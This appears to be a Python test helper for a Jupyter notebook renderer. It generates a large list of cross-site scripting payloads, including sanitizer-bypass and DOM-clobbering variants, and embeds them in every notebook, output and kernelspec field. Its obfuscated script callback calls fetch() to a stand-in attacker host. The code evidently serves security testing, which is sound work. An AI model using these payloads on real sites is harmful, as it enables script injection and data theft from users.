"""Ways to run a script from markup, written for these tests, and the fields of a notebook that can carry one."""

import base64
import json

# {js}: reports that it ran; {evil}: somebody else's server; {id}: which payload it is.
MARKUP = [
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT >",
    "<img src=x onerror={js}>",
    "<img/src='x'/onerror='{js}'>",
    "<svg onload={js}></svg>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></animate></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'></table></math>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}></style></mglyph></form>",
    "<iframe srcdoc='<script>parent.top.x=1;{js}</script>'></iframe>",
    '<iframe src="javascript:{js}"></iframe>',
    '<object data="javascript:{js}"></object><embed src="javascript:{js}">',
    "<details open ontoggle={js}><summary>s</summary></details>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<body onload={js}>",
    "<input autofocus onfocus={js}>",
    '<a href="javascript:{js}" id=link>x</a><a href="java\tscript:{js}">y</a>',
    "<base href={evil}/base?{id}/><img src=relative.png>",
    '<meta http-equiv=refresh content="0;url={evil}/meta?{id}">',
    "<link rel=stylesheet href={evil}/link?{id}><link rel=prefetch href={evil}/prefetch?{id}>",
    "<style>@import '{evil}/import?{id}'; body {{ background: url({evil}/background?{id}) }}</style><p>styled</p>",
    '<p style="background: url({evil}/inline?{id}); position: fixed; inset: 0">over everything</p>',
    "<img src={evil}/img?{id}><video src={evil}/video?{id} autoplay></video>",
    "<picture><source srcset={evil}/srcset?{id}><img src=x></picture>",
    "<table background={evil}/table?{id}><tr><td>t</td></tr></table>",
    "<form action={evil}/form?{id}><button autofocus>b</button></form>",
    "<form id=attributes><input name=parentNode></form>",
    "<img name=currentScript><a id=config></a><a id=runhere></a><form name=__proto__></form>",
    "<template><img src=x onerror={js}></template><div is=x-y onclick={js}>z</div>",
    "<x-own-element onpointerenter={js} autofocus tabindex=1 onfocus={js}></x-own-element>",
    '"><img src=x onerror={js}>',
    "'; {js} //",
    "${{{js}}}{{{{constructor.constructor('{js}')()}}}}",
]
MARKDOWN = [
    "[a](javascript:{js}) <javascript:{js}>",
    '![x](x"onerror="{js})',
    "![pixel]({evil}/markdown?{id})",
    '```mermaid\nflowchart LR\n  A["<img src=x onerror={js}>"] --> B\n  click B "javascript:{js}"\n```',
    "$\\href{{javascript:{js}}}{{x}} \\htmlData{{a=b}}{{x}} \\includegraphics{{{evil}/tex?{id}}}$",
    '[ref]: javascript:{js} "title"\n[ref]',
    "| a |\n|---|\n| <img src=x onerror={js}> |",
]


def script(evil: str, number: int) -> str:
    """Code without quotes or spaces, which reports that it ran and, in whose page it did."""
    told = f"{evil}/ran?{number}".encode()
    # String.fromCharCode: quotes would end the attributes that the payloads stand in.
    codes = ",".join(str(code) for code in told)
    return f"(top.__pwned=(top.__pwned||0)+1,fetch(String.fromCharCode({codes})))"


def payloads(evil: str) -> list[str]:
    """Every payload, each with its number in what it reports."""
    return [text.format(js=script(evil, number), evil=evil, id=number) for number, text in enumerate(MARKUP + MARKDOWN)]


def kernelspecs(evil: str, python: str) -> dict[str, str]:
    """Kernels by folder: each with a payload where a runtime tells of it, and its file `kernel.json`."""
    return {
        f"payload{number}": json.dumps(
            {
                "argv": [python, "-m", "ipykernel_launcher", "-f", "{connection_file}"],
                "display_name": text,
                "language": text,
                "metadata": {text[:30]: text},
            }
        )
        for number, text in enumerate(payloads(evil))
    }


def _code(number: int, outputs: list[object], metadata: object = None) -> dict[str, object]:
    return {
        "cell_type": "code",
        "id": f"c{number}",
        "execution_count": number,
        "metadata": metadata or {},
        "outputs": outputs,
        "source": [f"# cell {number}"],
    }


def _display(data: dict[str, object], metadata: object = None) -> dict[str, object]:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def _outputs(text: str) -> list[object]:
    """The payload in every kind of output and each of their fields."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{text}</svg>'
    return [
        {"output_type": "stream", "name": "stdout", "text": [f"\u001b[1m{text}\u001b[0m\u001b]8;;javascript:1\u0007x"]},
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
        *[
            _display({mime: value, "text/plain": text}, {"alt": text, mime: {"width": text}})
            for mime, value in {
                "text/plain": text,
                "text/html": text,
                "text/markdown": text,
                "text/latex": f"${text}$",
                "image/svg+xml": svg,
                "image/png": base64.b64encode(text.encode()).decode(),
                "application/json": {text: [text]},
                "application/javascript": text,
                "application/vnd.plotly.v1+json": {"data": [{"y": [1], "name": text}], "layout": {"title": text}},
                "application/vnd.vegalite.v5+json": {"title": text, "mark": "bar", "data": {"url": text}},
                "application/vnd.jupyter.widget-view+json": {"model_id": text},
                text: text,
            }.items()
        ],
    ]


def notebook(evil: str) -> str:
    """A notebook by somebody else, with every payload in every field that can carry one."""
    cells: list[dict[str, object]] = []
    for number, text in enumerate(payloads(evil)):
        cells.append(_code(number, _outputs(text), {"tags": [text], "name": text, text[:40]: text}))
        cells.append(
            {
                "cell_type": "markdown",
                "id": f"m{number}",
                "metadata": {"tags": [text]},
                "attachments": {"a.png": {"image/png": text}, text[:30]: {"image/svg+xml": text}},
                "source": f"# heading {text}\n\n{text}\n\n![x](attachment:a.png)\n".splitlines(keepends=True),
            }
        )
        cells.append({"cell_type": "raw", "id": f"r{number}", "metadata": {"format": text}, "source": [text]})
    first = payloads(evil)[2]
    metadata = {
        "title": first,
        "authors": [{"name": first}],
        "kernelspec": {"name": "python3", "display_name": first, "language": first},
        "language_info": {"name": first, "mimetype": first},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "state": {first: {}}}},
    }
    return json.dumps({"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}, indent=1) + "\n"
